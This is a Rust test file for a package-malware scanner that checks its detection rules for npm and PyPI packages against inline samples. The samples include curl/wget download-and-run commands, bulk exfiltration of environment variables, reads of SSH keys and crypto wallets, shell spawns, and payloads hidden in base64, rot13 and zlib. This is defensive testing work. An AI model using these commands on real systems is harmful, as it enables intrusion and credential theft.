//! Each rule family on its own, through the public `analyze` entry point, with inline sources.

use assay_package::archive::Entry;
use assay_package::{analyze, Ecosystem, Finding, Severity};
use base64::Engine;

/// [`analyze::analyze`], checked to find the same as parsing every file (the prefilter may
/// skip only files no rule fires on).
fn analyze_checked(ecosystem: Ecosystem, name: &str, files: &[Entry]) -> Vec<Finding> {
    let findings = analyze::analyze(ecosystem, name, files);
    let reference = analyze::analyze_parsing_every_file(ecosystem, name, files);
    assert_eq!(findings, reference);
    findings
}

fn entry(path: &str, data: &[u8]) -> Entry {
    Entry {
        path: path.into(),
        data: data.to_vec(),
    }
}

fn npm(path: &str, src: &str) -> Vec<Finding> {
    analyze_checked(
        Ecosystem::Npm,
        "some-package-name",
        &[entry(path, src.as_bytes())],
    )
}

fn pypi(path: &str, src: &str) -> Vec<Finding> {
    analyze_checked(
        Ecosystem::Pypi,
        "some-package-name",
        &[entry(path, src.as_bytes())],
    )
}

fn rule<'f>(findings: &'f [Finding], id: &str) -> Option<&'f Finding> {
    findings.iter().find(|f| f.rule == id)
}

#[test]
fn install_hooks_npm_scripts_are_graded() {
    let pj = |cmd: &str| {
        let json = format!(
            r#"{{"name": "some-package-name", "repository": "x", "scripts": {{"postinstall": "{cmd}"}}}}"#
        );
        analyze_checked(
            Ecosystem::Npm,
            "some-package-name",
            &[entry("package/package.json", json.as_bytes())],
        )
    };
    let gyp = pj("node-gyp rebuild");
    assert_eq!(
        rule(&gyp, "install-script").unwrap().severity,
        Severity::Low
    );
    let inline = pj("node -e \\\"require('https').get('https://x.example.com')\\\"");
    assert_eq!(
        rule(&inline, "install-script").unwrap().severity,
        Severity::High
    );
    let curl = pj("curl -s http://192.0.2.1/i.sh | sh");
    let f = rule(&curl, "download-exec").unwrap();
    assert_eq!((f.severity, f.line), (Severity::Critical, Some(1)));
}

#[test]
fn install_hooks_setup_py_and_pth() {
    let f = pypi(
        "pkg-1.0/setup.py",
        "import subprocess\nsubprocess.call(['sh', '-c', 'id'])\nfrom setuptools import setup\nsetup(name='pkg')\n",
    );
    let code = rule(&f, "setup-py-code").unwrap();
    assert_eq!((code.severity, code.line), (Severity::High, Some(2)));
    let f = pypi(
        "evil.pth",
        "/usr/lib/somewhere\nimport os; os.system('id')\n",
    );
    let pth = rule(&f, "pth-exec").unwrap();
    assert_eq!((pth.severity, pth.line), (Severity::High, Some(2)));
    assert!(rule(&f, "process-spawn").is_some());
    assert!(rule(&pypi("plain.pth", "/usr/lib/somewhere\n"), "pth-exec").is_none());
}

#[test]
fn process_spawning_in_both_languages() {
    let f = npm(
        "package/a.js",
        "const { execSync } = require('child_process');\nexecSync('ls');\n",
    );
    assert_eq!(rule(&f, "process-spawn").unwrap().line, Some(2));
    for src in [
        "import os\nos.system('ls')\n",
        "import pty\npty.spawn('/bin/sh')\n",
        "from subprocess import Popen as P\nP(['ls'])\n",
        "import os\nx = f\"{os.system('id')}\"\n",
    ] {
        assert!(
            rule(&pypi("m/a.py", src), "process-spawn").is_some(),
            "{src}"
        );
    }
}

#[test]
fn dynamic_code_and_the_global_idiom() {
    assert_eq!(
        rule(&npm("package/a.js", "eval(userCode);"), "dynamic-code")
            .unwrap()
            .severity,
        Severity::Medium
    );
    assert!(rule(
        &npm("package/a.js", "var root = Function('return this')();"),
        "dynamic-code"
    )
    .is_none());
    assert!(rule(
        &npm(
            "package/a.js",
            "const vm = require('vm'); vm.runInNewContext(src);"
        ),
        "dynamic-code"
    )
    .is_some());
    assert!(rule(&pypi("m/a.py", "exec(payload)\n"), "dynamic-code").is_some());
    assert!(rule(
        &pypi("m/a.py", "import re\nre.compile(p)\n"),
        "dynamic-code"
    )
    .is_none());
    let f = pypi("m/a.py", "import marshal\nmarshal.loads(b'\\xe3\\x00')\n");
    assert_eq!(
        rule(&f, "unsafe-deserialization").unwrap().severity,
        Severity::High
    );
}

#[test]
fn network_modules_and_url_categories() {
    let f = npm("package/a.js", "const net = require('net');\nconst u = 'https://pastebin.com/raw/abc';\nconst h = 'https://hooks.slack.com/services/T0/B0/x';\nconst t = 'tcp://0.tcp.eu.ngrok.io:12345';\nconst c = 'https://x.oastify.com';\nconst ip = 'http://192.0.2.7/x';\nconst p = 'http://files.example.org:31337/a';\n");
    for id in [
        "network-access",
        "url-paste-site",
        "url-webhook",
        "url-tunnel",
        "url-request-catcher",
        "url-raw-ip",
        "url-nonstandard-port",
    ] {
        assert!(rule(&f, id).is_some(), "{id} missing from {f:#?}");
    }
    let quiet = npm("package/a.js", "const v = '1.2.3.4.5'; const d = 'https://discord.com/invite/x'; const l = 'http://127.0.0.1:9999';\n");
    assert!(quiet.is_empty(), "{quiet:#?}");
    assert!(rule(&pypi("m/a.py", "import socket\n"), "network-access").is_some());
    let split = npm(
        "package/a.js",
        "const u = 'https://disc' + ('ord.com/api/web' + 'hooks/1/x');",
    );
    assert!(rule(&split, "url-webhook").is_some(), "{split:#?}");
    let split = pypi("m/a.py", "u = ('https://paste' 'bin.com/raw/x')\n");
    assert!(rule(&split, "url-paste-site").is_some(), "{split:#?}");
}

#[test]
fn environment_and_credentials() {
    let f = npm(
        "package/a.js",
        "const t = process.env.NPM_TOKEN;\nfetch(u, { body: JSON.stringify(process.env) });\n",
    );
    assert_eq!(rule(&f, "env-token-access").unwrap().line, Some(1));
    assert_eq!(rule(&f, "env-bulk-exfil").unwrap().severity, Severity::High);
    assert!(
        npm("package/a.js", "spawn('git', [], { env: process.env });")
            .iter()
            .all(|f| !f.rule.starts_with("env-"))
    );
    let f = pypi("m/a.py", "import os, json\njson.dumps(dict(os.environ))\nopen(os.path.expanduser('~/.ssh/id_rsa'))\nos.environ['AWS_SECRET_ACCESS_KEY']\n");
    assert!(rule(&f, "env-bulk-exfil").is_some());
    assert_eq!(
        rule(&f, "credential-file-access").unwrap().severity,
        Severity::High
    );
    assert!(rule(&f, "env-token-access").is_some());
    let wallet = npm(
        "package/a.js",
        "const p = home + '/Library/Application Support/Exodus/exodus.wallet';",
    );
    assert!(rule(&wallet, "credential-file-access").is_some());
}

#[test]
fn download_and_execute_chains() {
    let f = npm(
        "package/a.js",
        "const c = 'wget http://192.0.2.9/a -O /tmp/a && chmod +x /tmp/a';",
    );
    assert_eq!(rule(&f, "download-exec").unwrap().severity, Severity::High);
    let f = npm(
        "package/a.js",
        "const c = 'powershell -NoProfile -enc SQBFAFgA';",
    );
    assert!(rule(&f, "download-exec").is_some());
    let f = npm("package/a.js", "const https = require('https'); const fs = require('fs');\nhttps.get(u, r => r.pipe(fs.createWriteStream('/tmp/x')));\nfs.chmodSync('/tmp/x', 0o755);\n");
    assert_eq!(rule(&f, "download-write-exec").unwrap().line, Some(3));
    let sh = analyze_checked(
        Ecosystem::Npm,
        "x",
        &[entry(
            "package/i.sh",
            b"#!/bin/sh\ncurl -s http://192.0.2.3/x | bash\n",
        )],
    );
    assert_eq!(rule(&sh, "download-exec").unwrap().line, Some(2));
}

#[test]
fn obfuscation_is_decoded_and_rescanned_at_the_original_line() {
    // base64 of: require('child_process').exec('id')
    let f = npm(
        "package/a.js",
        "// one\n// two\nconst x = atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=');\n",
    );
    let spawn = rule(&f, "process-spawn").unwrap();
    assert_eq!(spawn.line, Some(3));
    assert!(
        spawn.message.contains("decoded from base64"),
        "{}",
        spawn.message
    );
    assert!(rule(&f, "decode-literal").is_some());
    // Three levels of base64 are followed; the payload is `curl http://192.0.2.4/x | sh`.
    let mut text = "curl http://192.0.2.4/x | sh".to_owned();
    for _ in 0..3 {
        text = format!("atob('{}')", base64_encode(text.as_bytes()));
    }
    let nested = npm("package/a.js", &format!("eval({text});"));
    assert!(rule(&nested, "download-exec").is_some(), "{nested:#?}");
    assert!(rule(&nested, "eval-decoded").is_some());
    let hex = npm(
        "package/a.js",
        &format!(
            "const h = '{}';",
            hex_encode(&"require('child_process').execSync('uname -a');".repeat(2))
        ),
    );
    assert!(rule(&hex, "obfuscated-hex").is_some() && rule(&hex, "process-spawn").is_some());
    let rot = pypi(
        "m/a.py",
        "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13'))\n",
    );
    assert!(rule(&rot, "eval-decoded").is_some() && rule(&rot, "process-spawn").is_some());
    let packed = {
        use std::io::Write;
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(b"import os\nos.system('id')\n").unwrap();
        base64_encode(&z.finish().unwrap())
    };
    let zipped = pypi(
        "m/a.py",
        &format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"),
    );
    let spawn = rule(&zipped, "process-spawn").unwrap();
    assert!(spawn.message.contains("compressed base64"), "{zipped:#?}");
    assert_eq!(
        rule(&zipped, "eval-decoded").unwrap().severity,
        Severity::Critical
    );
    let minified = format!("var a=1;{}", "a=a+1;".repeat(600));
    assert!(rule(&npm("package/lib/x.js", &minified), "minified-code").is_some());
    assert!(rule(&npm("package/dist/x.js", &minified), "minified-code").is_none());
    let names: String = (0..30)
        .map(|i| format!("var _0x{:04x}=1;", 0x1a2b + i))
        .collect();
    assert!(rule(&npm("package/lib/x.js", &names), "obfuscator-names").is_some());
}

#[test]
fn bundled_executables_by_magic_bytes() {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0junk";
    let f = analyze_checked(Ecosystem::Npm, "x", &[entry("package/bin/update", elf)]);
    assert_eq!(
        rule(&f, "binary-executable").unwrap().severity,
        Severity::High
    );
    let f = analyze_checked(
        Ecosystem::Npm,
        "x",
        &[entry("package/prebuilds/linux-x64/addon.node", elf)],
    );
    assert_eq!(
        rule(&f, "binary-node-addon").unwrap().severity,
        Severity::Low
    );
}

#[test]
fn typosquatting_and_metadata() {
    let f = analyze_checked(Ecosystem::Npm, "expresss", &[]);
    assert!(rule(&f, "typosquat").unwrap().message.contains("`express`"));
    let pj = br#"{"name": "other-name", "version": "99.0.1", "main": "missing.js", "bin": {"node": "x.js"}}"#;
    let f = analyze_checked(
        Ecosystem::Npm,
        "some-package-name",
        &[entry("package/package.json", pj)],
    );
    for id in [
        "metadata-no-repository",
        "metadata-name-mismatch",
        "metadata-version-anomaly",
        "metadata-main-missing",
        "metadata-bin-odd",
    ] {
        assert!(rule(&f, id).is_some(), "{id} missing");
    }
    let meta = b"Metadata-Version: 2.1\nName: other\nVersion: 0.0.0\n\n";
    let f = analyze_checked(
        Ecosystem::Pypi,
        "mine",
        &[entry("mine-0.0.0/PKG-INFO", meta)],
    );
    for id in [
        "metadata-name-mismatch",
        "metadata-version-anomaly",
        "metadata-no-homepage",
        "metadata-no-author",
    ] {
        assert!(rule(&f, id).is_some(), "{id} missing");
    }
}

#[test]
fn snippets_are_short_one_line_and_escaped() {
    let src = format!(
        "const c = 'curl http://192.0.2.1/x | sh\\n\\u001b[0m{}';",
        "A".repeat(400)
    );
    let f = npm("package/a.js", &src);
    let s = rule(&f, "download-exec").unwrap().snippet.clone().unwrap();
    assert!(s.chars().count() <= 200, "{s}");
    assert!(!s.chars().any(char::is_control), "{s:?}");
    let f = npm("package/a.js", "eval(x\n+\ty)");
    assert_eq!(
        rule(&f, "dynamic-code").unwrap().snippet.as_deref(),
        Some("eval(x\\n+\\ty)")
    );
}

#[test]
fn oversized_and_hostile_input_never_panics() {
    let big = vec![b'a'; assay_package::analyze::MAX_PARSE_BYTES + 1];
    let f = analyze_checked(Ecosystem::Npm, "x", &[entry("package/big.js", &big)]);
    assert_eq!(
        rule(&f, "file-too-large-to-parse").unwrap().severity,
        Severity::Info
    );
    let deep = "(".repeat(50_000) + &"[".repeat(50_000);
    let _ = npm("package/deep.js", &deep);
    let _ = pypi("m/deep.py", &deep);
    // Many nested calls stay linear: each is compared with the calls inside it only.
    let started = std::time::Instant::now();
    let _ = npm("package/many.js", &"eval(atob(x));".repeat(20_000));
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    let _ = npm(
        "package/bad.js",
        "\u{0}\u{ffff}'\\x\\u{110000}\\u{ffffffffff}' String.fromCharCode(1e308, -1)",
    );
    let _ = analyze_checked(
        Ecosystem::Npm,
        "x",
        &[
            entry("package/package.json", b"{not json"),
            entry("package/x.exe", b"MZ\xff\xff\xff\xff"),
        ],
    );
}

fn base64_encode(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

fn hex_encode(s: &str) -> String {
    hex::encode(s)
}
